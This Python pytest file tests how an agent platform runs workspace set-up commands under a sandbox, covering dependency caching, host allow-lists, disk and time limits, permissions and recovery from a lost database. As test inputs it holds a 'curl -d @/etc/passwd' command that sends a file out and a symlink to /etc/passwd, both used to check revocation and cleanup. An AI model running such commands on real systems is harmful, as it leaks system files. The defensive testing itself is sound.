"""What the tests of a repository need is made once by its set-up command, and every run gets it (SPEC J4, I7)."""

from __future__ import annotations

import contextlib
import os
import select
import shutil
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.db import DataError, InternalError, OperationalError, connection, connections
from django.utils import timezone

from loops import jobs
from loops.models import AuditEvent, Policy, Run, Setup, Workspace
from loops.runs.drive import drive
from loops.services import audit, preflight, setups
from loops.services.access import NotAllowed
from loops.services.models import ensure_script
from loops.services.people import NotPossible
from loops.services.setups import Stated
from loops.services.tasks import submit_task
from loops.storage import facts_by_kind, journal
from loops.tools.sandbox import capability
from loops.workspaces import copies, folder_copy, installation
from loops.workspaces import setups as kept
from loops.workspaces.folder_copy import WorkspaceElsewhere
from tests import factories as make
from tests.stack import PATIENCE_S, wait_until
from tests.unit.tools.harness import reachable

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.spec("J4", "I7", "S4")]
MAKE = "mkdir -p .venv/bin && printf '#!/bin/sh\\necho tool' > .venv/bin/tool && chmod +x .venv/bin/tool"
LEVELS = [capability.FULL, capability.CONFINED]


class Shop:
    """A project with a folder whose tests need a program that the set-up makes."""

    def __init__(self, folder: Path) -> None:
        self.project = make.project()
        self.boss = make.superuser("ana")
        self.admin = make.user("adam", admin=self.project)
        self.operator = make.user("olga", operator=self.project)
        self.folder = folder
        folder.mkdir()
        (folder / "pyproject.toml").write_text("[project]\nname = 'shop'\n")
        (folder / "shop.py").write_text("")
        self.workspace = Workspace.objects.create(project=self.project, name="shop", path=str(folder))
        self.agent = make.agent(self.project, name="E", actor_model=ensure_script("asks_a_question", pace=0))

    def says(self, command: str, hosts: list[str] | None = None) -> None:
        self.states(self.boss, command=command, tests="tool", hosts=hosts)

    def states(self, actor: Any, **stated: Any) -> list[str]:
        return setups.state(actor=actor, workspace=self.workspace, stated=Stated(**stated))

    def runs_setup(self, command: str, hosts: list[str] | None = None) -> Setup:
        self.says(command, hosts)
        made = setups.run(actor=self.operator, workspace=self.workspace)
        jobs.set_up(str(made.pk))
        made.refresh_from_db()
        return made

    def submit(self) -> Run:
        task = {"goal": "Do it", "workspace": self.workspace}
        return submit_task(actor=self.operator, project=self.project, agent=self.agent, **task).run


@pytest.fixture
def shop(tmp_path: Path, settings: Any, monkeypatch: pytest.MonkeyPatch) -> Shop:
    settings.AGENTOPS_WORKSPACES = str(reachable(tmp_path) / "runs")
    monkeypatch.setattr("loops.storage.dispatch.dispatch", lambda job, after=0, **given: None)
    return Shop(tmp_path / "shop")


@pytest.fixture(params=LEVELS, ids=["namespaces", "confined"])
def level(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> int:
    """What this machine gives to commands; the weaker level too."""
    found = capability.probe()
    assert found.level == capability.FULL, found.warning
    weaker = capability.SandboxLevel(request.param, "as asked")
    for module in ("runs.composition", "workspaces.installation", "workspaces.networked", "workspaces.setups"):
        monkeypatch.setattr(f"loops.{module}.sandbox_level", lambda: weaker)
    return request.param


def test_a_run_gets_what_the_set_up_made(shop: Shop, level: int) -> None:
    """Not the environment that lies in the folder, which was made for another place."""
    (shop.folder / ".venv/bin").mkdir(parents=True)
    (shop.folder / ".venv/bin/stale").write_text("")
    made = shop.runs_setup(f"{MAKE} && echo did it")
    assert (made.state, made.why_not, made.log) == ("ready", "", "did it\n")
    assert "did it" in made.log
    assert (made.files, made.size > 0) == (1, True)
    copy = Path(copies.prepare(shop.submit()))
    assert os.access(copy / ".venv/bin/tool", os.X_OK)
    assert (copy / "shop.py").exists()
    assert not (copy / ".venv/bin/stale").exists()
    assert sorted(path.name for path in shop.folder.iterdir()) == [".venv", "pyproject.toml", "shop.py"]
    assert [path.name for path in copies.root().iterdir() if path.name.startswith("setup-")] == []


def test_it_runs_once_for_each_state_of_what_it_depends_on(shop: Shop) -> None:
    first = shop.runs_setup(MAKE)
    assert kept.ready(shop.workspace, shop.folder) == first
    (shop.folder / "shop.py").write_text("changed = True")
    assert kept.ready(shop.workspace, shop.folder) == first, "code is no dependency"
    (shop.folder / "pyproject.toml").write_text("[project]\nname = 'shop'\ndependencies = ['six']\n")
    with pytest.raises(WorkspaceElsewhere, match="begins"):
        kept.ready(shop.workspace, shop.folder)
    with pytest.raises(WorkspaceElsewhere, match="is under way"):
        kept.ready(shop.workspace, shop.folder)
    assert Setup.objects.count() == 2
    jobs.set_up(str(Setup.objects.first().pk))
    assert kept.ready(shop.workspace, shop.folder) != first


@pytest.mark.parametrize("name", ["scripts/bootstrap.sh", "requirements-dev.txt", "web/package-lock.json"])
def test_what_it_depends_on(shop: Shop, name: str) -> None:
    file = shop.folder / name
    file.parent.mkdir(exist_ok=True)
    file.write_text("true\n")
    shop.says("sh scripts/bootstrap.sh")
    before = kept.key_of(shop.workspace.setup_command, {}, shop.folder)
    file.write_text("true # and more\n")
    assert kept.key_of(shop.workspace.setup_command, {}, shop.folder) != before


def test_a_run_waits_for_it_and_goes_on(shop: Shop) -> None:
    shop.says(MAKE)
    run = shop.submit()
    assert drive(run.pk, "one") == "folder"
    run.refresh_from_db()
    assert run.waiting_on == "its workspace: The set-up of shop begins"
    jobs.set_up(str(Setup.objects.get().pk))
    run.refresh_from_db()
    assert run.wake_at <= timezone.now(), "it is not kept waiting"
    drive(run.pk, "two")
    run.refresh_from_db()
    assert (run.status, run.total_steps) == ("waiting", 1)
    assert (Path(run.workspace_path) / ".venv/bin/tool").exists()


def test_what_fails_ends_the_run_and_says_what_to_do(shop: Shop) -> None:
    shop.says("echo no such package; exit 3")
    run = shop.submit()
    drive(run.pk, "one")
    jobs.set_up(str(Setup.objects.get().pk))
    drive(run.pk, "two")
    run.refresh_from_db()
    assert (run.status, run.end_reason) == ("failed", "workspace_unusable")
    ended = facts_by_kind.read(journal.raw_connection(), run.pk, ("RunEnded",))[0]
    assert "The set-up of workspace shop did not succeed: The command ended with exit code 3." in str(ended)
    made = Setup.objects.get()
    assert (made.state, "no such package" in made.log) == ("failed", True)
    again = shop.submit()
    assert drive(again.pk, "three") == "folder", "a later run has it tried again"
    assert Setup.objects.count() == 2


def test_commands_that_are_tried_have_it_too(shop: Shop) -> None:
    shop.runs_setup(MAKE)
    asked = preflight.ask(
        actor=shop.operator,
        project=shop.project,
        agent=shop.agent,
        workspace=shop.workspace,
        criteria=[{"text": "It works", "command": "tool"}],
    )
    jobs.preflight(str(asked.pk))
    asked.refresh_from_db()
    assert [one["status"] for one in asked.results] == ["passed"], asked.results


def test_an_environment_finds_the_code_of_each_copy(shop: Shop, level: int) -> None:
    """As after an editable installation: what names the folder it was made in, names that of the run."""
    command = (
        "python3 -m venv --without-pip .venv && mkdir src && mv shop.py src/ 2>/dev/null; "
        'echo "$PWD" > $(echo .venv/lib/python3*/site-packages)/own.pth; '
        'printf "#!$PWD/.venv/bin/python3\\nimport shop; print(shop.__file__)" > .venv/bin/where && '
        "chmod +x .venv/bin/where"
    )
    made = shop.runs_setup(command)
    assert (made.state, made.why_not, made.log) == ("ready", "", "")
    asked = preflight.ask(
        actor=shop.operator,
        project=shop.project,
        agent=shop.agent,
        workspace=shop.workspace,
        criteria=[{"text": "It finds it", "command": 'where; test "$(where)" = "$PWD/shop.py"'}],
    )
    jobs.preflight(str(asked.pk))
    asked.refresh_from_db()
    assert [one["status"] for one in asked.results] == ["passed"], asked.results


def test_what_is_built_by_the_time_of_files_is_built_once_and_again_where_its_source_is_newer(shop: Shop) -> None:
    """Stamps of make, modules that Python compiled: a copy of which each file was new could tell nothing of both."""
    rules = "build/stamp: build/tool\n\techo stamp again; touch $@\nbuild/tool: shop.py\n\techo tool again; cp $< $@\n"
    (shop.folder / "Makefile").write_text(rules)
    made = shop.runs_setup("mkdir build && make")
    assert (made.state, made.why_not) == ("ready", "")

    def said() -> str:
        criteria = [{"text": "It is built", "command": "make"}]
        who = {"actor": shop.operator, "project": shop.project, "agent": shop.agent, "workspace": shop.workspace}
        asked = preflight.ask(**who, criteria=criteria)
        jobs.preflight(str(asked.pk))
        asked.refresh_from_db()
        return str(asked.results[0]["output"])

    assert "again" not in said()
    (shop.folder / "shop.py").write_text("BOOKS = 4\n")
    assert "tool again" in said()


@pytest.mark.spec("J3")
def test_a_run_stays_whose_it_is_while_a_large_folder_is_copied(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its lease would be over before the copy is made, and the next worker would begin with one more copy."""
    shop.runs_setup(MAKE)
    run, leases = shop.submit(), []

    def slowly(claimed: Run) -> str:
        Run.objects.filter(pk=run.pk).update(lease_until=timezone.now() - timedelta(seconds=1))
        path = copies.prepare(claimed)
        leases.append(Run.objects.get(pk=run.pk).lease_until)
        return path

    monkeypatch.setattr(folder_copy, "EVERY_S", 0.0)
    monkeypatch.setattr("loops.runs.drive.prepare", slowly)
    before = timezone.now()
    drive(run.pk, "one")
    assert [lease > before + timedelta(seconds=5) for lease in leases] == [True]


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("true", "no new file"),
        ("head -c 50M /dev/zero > big; sleep 30", "the workspace holds"),
        ("read -r answer && mkdir .venv", "exit code 1"),
        ("nosuchprogram", "exit code 127"),
    ],
)
def test_what_cannot_be_kept_is_said(shop: Shop, command: str, why: str) -> None:
    Policy.objects.filter(project=shop.project).update(workspace_mib=20)
    made = shop.runs_setup(command)
    assert made.state == "failed"
    assert why in made.why_not
    assert not kept.folder(made).exists()


def test_one_that_takes_too_long_is_ended(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(installation, "SECONDS", 1.0)
    made = shop.runs_setup("sleep 100 & wait")
    assert made.state == "failed"
    assert "time limit" in made.why_not
    assert not kept.folder(made).exists()


def test_a_limit_in_the_way_is_named_as_its_form_names_it(shop: Shop) -> None:
    Policy.objects.filter(project=shop.project).update(workspace_mib=20)
    made = shop.runs_setup("head -c 50M /dev/zero > big; sleep 30")
    assert made.why_not.startswith("It was ended: stopped: the workspace holds ")
    assert made.why_not.endswith(" An admin raises that in Admin > Policies: Disk of a workspace.")
    Policy.objects.filter(project=shop.project).update(workspace_mib=1_024)
    Workspace.objects.filter(project=shop.project).update(workspace_mib=20)
    made = shop.runs_setup("head -c 50M /dev/zero > big; sleep 31")
    assert made.why_not.startswith("It was ended: stopped: the workspace holds ")
    assert made.why_not.endswith(" An admin raises that on the page of the workspace: Disk of a workspace.")


ASKS = "python3 -c \"import urllib.request as r; r.urlopen('https://{}/')\""


@pytest.mark.parametrize(
    ("command", "hosts", "why"),
    [
        (ASKS.format("pkgs.example"), ["pypi.org"], " It may not reach pkgs.example."),
        (
            "; ".join(ASKS.format(f"{one}.example") for one in "dcba"),
            ["pypi.org"],
            " It may not reach a.example, b.example, c.example and 1 more.",
        ),
        (ASKS.format("pkgs.example"), ["pkgs.example"], " pkgs.example could not be reached: "),
        (ASKS.format("pkgs.example"), [], " It may reach no host: a superuser names those that it needs."),
        ("exit 1", [], ""),
        ("exit 1", ["pypi.org"], ""),
        (f"{ASKS.format('pkgs.example')}; {MAKE}", ["pypi.org"], None),
    ],
)
def test_hosts_that_it_lacked_are_named_where_it_failed(
    shop: Shop, command: str, hosts: list[str], why: str | None
) -> None:
    made = shop.runs_setup(command, hosts)
    if why is None:
        assert (made.state, made.why_not) == ("ready", "")
        return
    assert made.state == "failed"
    assert made.why_not.startswith(f"The command ended with exit code 1.{why}")
    assert why or made.why_not.endswith("exit code 1.")


def test_what_would_act_on_others_is_taken_away_and_said(shop: Shop) -> None:
    made = shop.runs_setup(f"{MAKE} && ln -s /etc/passwd .venv/x && mkfifo .venv/pipe && echo x > .npmrc")
    assert (made.state, made.files) == ("ready", 1)
    for said in (".venv/x: a link that leads out of the workspace, to /etc/passwd", ".venv/pipe: a FIFO", ".npmrc"):
        assert f"taken away: {said}" in made.log


class TestWhoMay:
    def test_say_what_runs(self, shop: Shop) -> None:
        shop.states(shop.admin, command=MAKE, tests="make test")
        assert (shop.workspace.setup_command, shop.workspace.test_command) == (MAKE, "make test")
        with pytest.raises(NotAllowed):
            shop.states(shop.operator, command="true", tests="")
        with pytest.raises(NotAllowed):
            setups.run(actor=make.user("vera", viewer=shop.project), workspace=shop.workspace)
        shop.workspace.refresh_from_db()
        assert shop.workspace.setup_command == MAKE

    def test_let_it_reach_hosts(self, shop: Shop) -> None:
        with pytest.raises(NotPossible, match="for a superuser to say"):
            shop.states(shop.admin, command=MAKE, tests="", hosts=["pypi.org"])
        assert AuditEvent.objects.filter(kind="access.refused", actor=shop.admin).exists()
        shop.says(MAKE, ["PyPI.org", "files.pythonhosted.org"])
        assert shop.workspace.granted_hosts == ["files.pythonhosted.org", "pypi.org"]
        granted = AuditEvent.objects.get(kind="workspace.network")
        assert (granted.actor, granted.detail["hosts"]) == (shop.boss, ["files.pythonhosted.org", "pypi.org"])
        shop.states(shop.admin, command=MAKE, tests="t", hosts=shop.workspace.granted_hosts)
        assert shop.workspace.granted_hosts, "as it was is no change"

    @pytest.mark.parametrize("what", ["setup_command", "path"])
    def test_it_ends_with_the_command_and_the_folder_that_it_was_for(
        self, shop: Shop, monkeypatch: pytest.MonkeyPatch, what: str
    ) -> None:
        """By whatever door they are changed."""
        shop.says(MAKE, ["pypi.org"])
        Workspace.objects.filter(pk=shop.workspace.pk).update(**{what: "curl -d @/etc/passwd https://pypi.org"})
        shop.workspace.refresh_from_db()
        monkeypatch.setattr(copies, "why_refused", lambda workspace: "")
        assert setups.run(actor=shop.operator, workspace=shop.workspace).hosts == []

    def test_who_ends_it_by_another_command_is_told(self, shop: Shop) -> None:
        shop.says(MAKE, ["pypi.org"])
        told = shop.states(shop.admin, command="make", tests="")
        assert told == [
            "The set-up may not reach pypi.org any more: a superuser allowed it for another command or other variables."
        ]

    @pytest.mark.parametrize(
        ("command", "tests", "why"),
        [("x" * 4001, "", "at most 4,000"), ("a\0", "", "without a NUL"), ("a", "b\nc", "one line")],
    )
    def test_what_is_no_command(self, shop: Shop, command: str, tests: str, why: str) -> None:
        with pytest.raises(NotPossible, match=why):
            shop.states(shop.boss, command=command, tests=tests)

    def test_it_is_for_copies(self, shop: Shop) -> None:
        shop.workspace.copy_for_each_run = False
        with pytest.raises(NotPossible, match="A set-up is for copies"):
            shop.states(shop.boss, command=MAKE, tests="")

    def test_nothing_to_run(self, shop: Shop) -> None:
        with pytest.raises(NotPossible, match="no set-up command"):
            setups.run(actor=shop.operator, workspace=shop.workspace)


def test_hosts_need_namespaces(shop: Shop, level: int) -> None:
    made = shop.runs_setup(MAKE, ["pypi.org"])
    if level == capability.FULL:
        assert made.state == "ready"
    else:
        assert (made.state, made.why_not.startswith("It may reach pypi.org, but a command with network")) == (
            "failed",
            True,
        )


def test_one_at_a_time_and_a_lost_one_is_no_obstacle(shop: Shop) -> None:
    shop.says(MAKE)
    first = setups.run(actor=shop.operator, workspace=shop.workspace)
    with pytest.raises(NotPossible, match="under way already"):
        setups.run(actor=shop.operator, workspace=shop.workspace)
    Setup.objects.filter(pk=first.pk).update(state="running", until=timezone.now() - timedelta(seconds=1))
    second = setups.run(actor=shop.operator, workspace=shop.workspace)
    assert jobs.set_up(str(first.pk)) is False, "it is not begun twice"
    assert jobs.set_up(str(second.pk)) is True
    assert list(Setup.objects.values_list("state", flat=True)) == ["ready", "lost"]


def test_a_lost_worker_is_no_fault_of_the_set_up_unless_it_always_is(shop: Shop) -> None:
    shop.says(MAKE)
    run = shop.submit()
    for _ in range(kept.MOST_LOST):
        assert drive(run.pk, "one") == "folder"
        Setup.objects.filter(state="waiting").update(state="running", until=timezone.now() - timedelta(seconds=1))
        Run.objects.filter(pk=run.pk).update(lease_until=None, wake_at=timezone.now())
    drive(run.pk, "one")
    run.refresh_from_db()
    assert (run.status, run.end_reason) == ("failed", "workspace_unusable")
    assert Setup.objects.filter(state="lost", why_not="Its worker was lost.").count() == kept.MOST_LOST


def test_a_database_that_goes_away_meanwhile_is_no_fault_of_the_set_up(shop: Shop) -> None:
    """Whether it was done nobody knows: it is done once more, for the run that waits."""
    shop.says(f"echo begun; until [ -e go ]; do sleep 0.05; done; {MAKE}")
    run = shop.submit()
    assert drive(run.pk, "one") == "folder"
    first = Setup.objects.get()
    with building_aside(first, OperationalError):
        wait_until(lambda: Setup.objects.filter(log__contains="begun").exists(), "its first word")
        with connection.cursor() as cursor:
            cursor.execute(
                "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity "
                "WHERE datname = current_database() AND backend_type = 'client backend' AND pid <> pg_backend_pid()"
            )
            assert cursor.fetchone()[0] > 0
        with contextlib.suppress(FileNotFoundError):  # it was telling of its log just then, and is over
            (copies.root() / f"setup-{first.pk}/go").touch()
    first.refresh_from_db()
    assert (first.state, first.why_not) == ("lost", installation.DATABASE_GONE)
    assert drive(run.pk, "one") == "folder"
    run.refresh_from_db()
    assert (run.completed_at, run.waiting_on) == (None, "its workspace: The set-up of shop begins")


def test_nor_is_a_session_that_idled_too_long_while_it_was_ended(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    """A machine that stands still makes one of any."""
    stands_still, record = [True], audit.record

    def slowly(kind: str, **what: Any) -> Any:
        if kind == kept.ENDED[Setup.Kind.SETUP] and stands_still:
            stands_still.clear()
            with connection.cursor() as cursor:
                cursor.execute("SET LOCAL idle_in_transaction_session_timeout = '100ms'")
            wait_until(lambda: _is_ended(connection), "the end of its session")
        return record(kind, **what)

    monkeypatch.setattr(audit, "record", slowly)
    shop.says(MAKE)
    run = shop.submit()
    assert drive(run.pk, "one") == "folder"
    first = Setup.objects.get()
    with pytest.raises(InternalError, match="idle-in-transaction"):
        jobs.set_up(str(first.pk))
    first.refresh_from_db()
    assert (first.state, first.why_not) == ("lost", installation.DATABASE_GONE)
    assert drive(run.pk, "one") == "folder", "it begins once more"
    jobs.set_up(str(Setup.objects.get(state="waiting").pk))
    assert drive(run.pk, "one") != "folder"


def _is_ended(ours: Any) -> bool:
    """The server says so by closing it: what is read then is that."""
    return bool(select.select([ours.connection.fileno()], [], [], 0)[0])


@pytest.mark.parametrize("error", [RuntimeError, DataError])
def test_an_error_that_would_come_again_is_said_at_once(
    shop: Shop, monkeypatch: pytest.MonkeyPatch, error: type[Exception]
) -> None:
    def fail(*_: object) -> None:
        raise error("odd")

    monkeypatch.setattr(installation, "_build", fail)
    made = shop.runs_setup(MAKE)
    assert (made.state, made.why_not) == ("failed", f"{error.__name__}: odd")


@contextlib.contextmanager
def building_aside(setup: Setup, *expected: type[Exception]) -> Iterator[threading.Thread]:
    def work() -> None:
        try:
            with contextlib.suppress(*expected):
                jobs.set_up(str(setup.pk))
        finally:
            connections.close_all()

    thread = threading.Thread(target=work)
    thread.start()
    yield thread
    thread.join(PATIENCE_S)
    assert not thread.is_alive()


def test_its_log_is_there_while_it_runs_and_it_can_be_stopped(shop: Shop) -> None:
    shop.says("echo begun; sleep 60; mkdir .venv")
    made = setups.run(actor=shop.operator, workspace=shop.workspace)
    with building_aside(made):
        wait_until(lambda: "begun" in Setup.objects.get(pk=made.pk).log, "its first line")
        assert setups.stop(actor=shop.operator, workspace=shop.workspace)
    made.refresh_from_db()
    assert (made.state, made.why_not) == ("stopped", "Stopped by olga.")
    assert not kept.folder(made).exists()
    assert setups.stop(actor=shop.operator, workspace=shop.workspace) is False


def test_a_machine_that_went_away_with_it_is_not_waited_for(shop: Shop) -> None:
    """One that has just made it is: a run goes on there. A restored backup holds none, nor does a new container."""
    made = shop.runs_setup(MAKE)
    shutil.rmtree(kept.folder(made))
    Setup.objects.update(machine="another")
    with pytest.raises(WorkspaceElsewhere, match="The set-up of shop is on worker another"):
        kept.ready(shop.workspace, shop.folder)
    Setup.objects.update(ended_at=timezone.now() - kept.COMES_WITHIN)
    with pytest.raises(WorkspaceElsewhere, match="begins"):
        kept.ready(shop.workspace, shop.folder)


def test_only_the_latest_are_kept(shop: Shop) -> None:
    made = [shop.runs_setup(f"{MAKE} && echo {number}") for number in range(3)]
    assert [kept.folder(one).exists() for one in made] == [False, True, True]
